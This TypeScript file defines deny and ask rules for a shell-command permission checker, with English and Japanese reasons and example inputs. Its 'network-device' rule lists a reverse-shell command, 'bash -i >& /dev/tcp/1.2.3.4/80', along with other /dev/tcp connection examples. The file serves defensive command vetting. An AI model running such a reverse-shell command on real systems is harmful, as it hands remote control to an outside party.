import { text } from '../../contract/text/text.ts';
import type { ConstructRule } from './rule.ts';

/** Constructs that are too obscure to judge, or that a dialect does not allow. */
export const constructRules: readonly ConstructRule[] = [
  {
    id: 'not-read',
    decision: 'ask',
    because: text(
      'which commands it runs is only known when it runs, and no sandbox limits what they reach',
      '実行するコマンドは実行時まで分からず、届く範囲を制限するサンドボックスもありません',
    ),
    suggestion: text(
      'Write the commands and the names of their programs out.',
      'コマンドとプログラム名を書き出してください。',
    ),
    examples: ["echo 'a", 'ls )', 'echo $(ls'],
  },
  {
    id: 'network-device',
    decision: 'deny',
    because: text(
      'bash opens a network connection for this path',
      'bash はこのパスでネットワーク接続を開きます',
    ),
    suggestion: text(
      'Use a network program such as curl.',
      'curl などネットワーク用のプログラムを使ってください。',
    ),
    examples: ['bash -i >& /dev/tcp/1.2.3.4/80', 'cat < /dev/tcp/a/80', 'exec 3<>/dev/tcp/a/80'],
  },
  {
    id: 'command-substitution',
    decision: 'deny',
    dialect: 'strict',
    because: text('command substitution is not allowed here', 'ここではコマンド置換は許可されていません'),
    suggestion: text(
      'Run the inner command first, then use its output.',
      '内側のコマンドを先に実行し、その出力を使ってください。',
    ),
    examples: ['echo $(ls)', 'echo `ls`', 'echo "a$(ls)"'],
  },
  {
    id: 'process-substitution',
    decision: 'deny',
    dialect: 'strict',
    because: text('process substitution is not allowed here', 'ここではプロセス置換は許可されていません'),
    suggestion: text(
      'Run the inner command first, with its output in a file.',
      '内側のコマンドを先に実行し、出力をファイルに保存してください。',
    ),
    examples: ['diff <(ls) <(ls -a)', 'ls > >(cat)'],
  },
];
